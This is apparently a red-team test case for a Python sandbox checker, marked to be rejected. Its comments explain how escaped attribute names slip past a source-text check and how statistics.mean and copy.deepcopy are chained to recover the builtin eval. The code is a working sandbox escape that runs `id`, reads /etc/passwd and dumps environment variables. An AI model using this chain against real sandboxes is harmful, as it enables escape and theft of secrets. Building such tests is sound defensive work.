# expect: reject class_value
# line: 53
# why: the red team's round 27c ok_01: round 27b's statistics rule was gated on the names a class answers to pass for a number, which setattr spelt with escapes; the class held as a value is the gate
# ok_01 -- goal 1 (full escape): runs `id`, prints /etc/passwd and os.environ;
#          on the way goal 2: the private class typing._GenericAlias and the real eval.
#
# Mechanism: round 27b's statistics.mean conversion (T(value) with T = type).  Its
#   fix only fires when the program *text* contains the names statistics'
#   _exact_ratio reads (as_integer-ratio / numer-ator / denom-inator; spelled with a
#   hyphen here because this comment is program text too).  The names are needed at
#   run time only, so they are spelled with string escapes:
#   setattr(Odd, "\x61s_integer_ratio", f), setattr(Ratio, "\x6e...", 1).  With the
#   class attributes in place, statistics.mean([Odd(1), Ratio]) folds T = type,
#   total = Odd (the None partial), total / n = typing.List[int], and _convert
#   hands back type(typing.List[int]) = typing._GenericAlias.
#   _GenericAlias(dict, ("eval",), name="__builtins__") deep-copies to builtins.eval.
#
# Why the checker missed it: analyzer/stores.c statistics_conversions() gates the
#   whole rule on wk_text_has() (analyzer/walker.c), a memcmp over the raw source
#   bytes, so an escaped literal never matches.  setattr with a literal name on the
#   program's own class is allowed (judged as the attribute store it spells, by the
#   *decoded* name, which is harmless), and nothing else looks at statistics.mean.
#   Everything after the mean() call is the 27b chain unchanged: `maker` is a plain
#   name to the checker.
import statistics
import typing
import copy


class Odd(int):
    def __radd__(self, other):
        return self

    def __truediv__(self, other):
        return typing.List[int]

    def is_finite(self):
        return False


class Ratio:
    pass


def no_ratio(self):
    raise ValueError("no ratio")


setattr(Odd, "\x61s_integer_ratio", no_ratio)
setattr(Ratio, "\x6eumerator", 1)
setattr(Ratio, "\x64enominator", 1)

maker = statistics.mean([Odd(1), Ratio])
print("statistics.mean handed back:", maker)
alias = maker(dict, ("eval",), name="__builtins__")
ev = copy.deepcopy(alias)
print("copy.deepcopy handed back:", ev)
ev("print(__import__('os').popen('id').read())")
ev("print(__import__('builtins').open('/etc/passwd').read())")
ev("print(dict(__import__('os').environ))")
